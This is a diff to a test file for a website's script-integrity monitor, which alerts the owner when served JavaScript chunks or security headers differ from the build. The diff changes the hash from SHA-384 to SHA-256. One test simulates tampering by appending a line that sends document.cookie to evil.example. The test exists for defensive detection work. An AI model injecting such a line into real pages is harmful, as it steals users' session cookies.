@@ -27,7 +27,7 @@ import { SHARED } from '../support/shared-databases';
 jest.mock('@/lib/server/mail/deliver', () => ({ deliverQueuedMailSoon: () => undefined }));
 
 const chunk = (name: string) => `/_next/static/chunks/${name}.js`;
-const sha384 = (text: string) => `sha384-${createHash('sha384').update(text).digest('base64')}`;
+const sha256 = (text: string) => `sha256-${createHash('sha256').update(text).digest('base64')}`;
 
 /** What the test's site serves; each test changes what it needs, and the next starts from the build's again. */
 type Site = {
@@ -85,7 +85,7 @@ beforeAll(async () => {
     scripts: Object.fromEntries(
       Object.entries(build.files).map(([address, text]) => [
         address,
-        { sha384: sha384(text), bytes: text.length, kind: address.includes('paystack') ? 'paystack' : 'page-code' },
+        { sha256: sha256(text), bytes: text.length, kind: address.includes('paystack') ? 'paystack' : 'page-code' },
       ]),
     ),
     pages: {
@@ -131,8 +131,8 @@ it('raises nothing while the site serves what its build made, and checks every s
 it('mails the owner once when a chunk changes, naming the page and the file, and not again the next round', async () => {
   served.files[chunk('products')] += ';fetch("https://evil.example/"+document.cookie)';
   const line =
-    `/Products: ${chunk('products')} (page-code) changed (${sha384(served.files[chunk('products')])}, ` +
-    `expected ${sha384(built().files[chunk('products')])})`;
+    `/Products: ${chunk('products')} (page-code) changed (${sha256(served.files[chunk('products')])}, ` +
+    `expected ${sha256(built().files[chunk('products')])})`;
   expect(await round()).toMatchObject({ changes: [line], mailed: 1 });
   const mails = await alarmMails();
   expect(mails).toHaveLength(1);
@@ -178,7 +178,7 @@ it('mails a missing header, an inline script the policy does not name, and a cha
   expect(outcome?.changes).toEqual([
     '/Products: X-Frame-Options is missing',
     `/Products: an inline script (${injected}) is not in its policy`,
-    `(loaded on demand by the pages): ${chunk('paystack')} (paystack) changed (${sha384(served.files[chunk('paystack')])}, expected ${sha384(built().files[chunk('paystack')])})`,
+    `(loaded on demand by the pages): ${chunk('paystack')} (paystack) changed (${sha256(served.files[chunk('paystack')])}, expected ${sha256(built().files[chunk('paystack')])})`,
   ]);
   expect(await alarmMails()).toHaveLength(mailsBefore + 1);
   const [row] = await db.select().from(scriptAlarmRounds);
@@ -219,7 +219,7 @@ postgres('two servers on one Postgres', () => {
   it('start one round between them, and mail once a change both found at the same moment', async () => {
     const { db: first } = await getDatabase();
     const other = await openPostgres(postgresBackend.url!, { migrate: false });
-    const found = [{ key: ['changed', chunk('products'), 'sha384-new'], page: '/Products', what: 'changed' }];
+    const found = [{ key: ['changed', chunk('products'), 'sha256-new'], page: '/Products', what: 'changed' }];
     try {
       for (let attempt = 0; attempt < 5; attempt += 1) {
         for (const table of [scriptAlarmRounds, scriptAlarmChanges, mailOutbox]) await first.delete(table);
